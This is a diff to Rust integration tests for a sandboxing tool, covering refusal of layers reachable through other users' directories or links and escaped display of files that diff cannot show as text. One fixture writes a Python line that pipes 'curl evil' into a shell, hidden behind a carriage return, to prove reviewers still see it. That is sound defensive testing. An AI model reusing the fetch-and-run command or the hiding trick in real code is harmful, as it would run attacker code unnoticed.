@@ -89,7 +89,9 @@ fn a_layer_others_could_write_is_neither_diffed_nor_applied() {
         "{err}"
     );
     assert!(!f.ws().join("n.txt").exists());
-    ok(&f.workspace(&["apply"], "l"));
+    let err = fails(&f.workspace(&["apply"], "l"));
+    assert!(err.contains("no diff of this layer is on record"), "{err}");
+    ok(&f.apply_reviewed(&[], "l"));
     assert_eq!(f.read("n.txt"), "x\n");
 }
 
@@ -181,10 +183,11 @@ fn a_layer_inside_the_workspace_through_a_bind_mount_is_refused() {
     let f = Fixture::new();
     let mnt = f.dir.path().join("mnt");
     std::fs::create_dir(&mnt).unwrap();
-    // In a mount namespace of its own: the workspace's src bound at mnt,
+    // In a mount namespace of its own: the workspace's src bound at mnt
+    // over a tmpfs mounted there first (two mounts stacked on one place),
     // so mnt/L is in the workspace though no path text says so.
     let script = format!(
-        "mount --bind '{src}' '{mnt}' || exit 99; exec '{bin}' run --backend native --policy '{policy}' --workspace '{ws}' --workspace-mode overlay --keep-layer '{mnt}/L' --git-state '{git}' -- true",
+        "mount -t tmpfs none '{mnt}' && mount --bind '{src}' '{mnt}' || exit 99; exec '{bin}' run --backend native --policy '{policy}' --workspace '{ws}' --workspace-mode overlay --keep-layer '{mnt}/L' --git-state '{git}' -- true",
         src = f.ws().join("src").display(),
         mnt = mnt.display(),
         bin = env!("CARGO_BIN_EXE_substrat-sandbox"),
@@ -276,5 +279,67 @@ fn an_account_that_is_not_root_reviews_its_own_layer_and_root_may_not_apply_it()
     assert_eq!(
         std::fs::read_to_string(ws.join("one.txt")).unwrap(),
         "one\n"
+    );
+}
+
+/// Another user's directory anywhere above a layer, even above a private
+/// one, or another user's link naming it: refused (they could put another
+/// layer in its place, or choose which one is acted on).
+#[test]
+fn what_another_user_controls_on_the_way_to_a_layer_is_refused() {
+    let test = "what_another_user_controls_on_the_way_to_a_layer_is_refused";
+    if !rustix::process::geteuid().is_root() {
+        println!("SKIPPED {test}: needs root to make another user's directory");
+        return;
+    }
+    let f = Fixture::new();
+    let theirs = f.layer("theirs");
+    std::fs::create_dir(&theirs).unwrap();
+    std::os::unix::fs::chown(&theirs, Some(NOBODY), None).unwrap();
+    chmod(&theirs, 0o777);
+    let private = theirs.join("P");
+    std::fs::create_dir(&private).unwrap();
+    chmod(&private, 0o700);
+    let err = fails(&f.run("theirs/P/L", "native", "echo x > n.txt"));
+    assert!(err.contains("owned by uid 65534, not by you"), "{err}");
+    assert!(!private.join("L").exists(), "{err}");
+
+    // Root's own layer, named through nobody's link: refused.
+    ok(&f.run("l", "native", "echo x > n.txt"));
+    let link = theirs.join("link");
+    std::os::unix::fs::symlink(f.layer("l"), &link).unwrap();
+    rustix::fs::chownat(
+        rustix::fs::CWD,
+        &link,
+        Some(rustix::fs::Uid::from_raw(NOBODY)),
+        None,
+        rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
+    )
+    .unwrap();
+    let out = substrat(&["workspace", "diff", link.to_str().unwrap()]);
+    let err = fails(&out);
+    assert!(err.contains("owned by uid 65534"), "{err}");
+}
+
+/// A file `diff` cannot show as text (a lone carriage return, a NUL) is
+/// still shown to its reviewer: its size, SHA-256 and first bytes, every
+/// one a person could not see escaped.
+#[test]
+fn a_file_not_shown_as_text_is_still_shown_escaped() {
+    let f = Fixture::new();
+    ok(&f.run(
+        "l",
+        "native",
+        "printf 'import os; os.system(\"curl evil|sh\")\\r# \\ndef main(): pass\\n' > app.py",
+    ));
+    let patch = ok(&f.workspace(&["diff"], "l"));
+    assert!(
+        patch.contains("# app.py: binary, added, not in this patch\n"),
+        "{patch}"
+    );
+    assert!(patch.contains("#   57 bytes, sha256 "), "{patch}");
+    assert!(
+        patch.ends_with("#| import os; os.system(\"curl evil|sh\")\\r# \n#| def main(): pass\n"),
+        "{patch}"
     );
 }
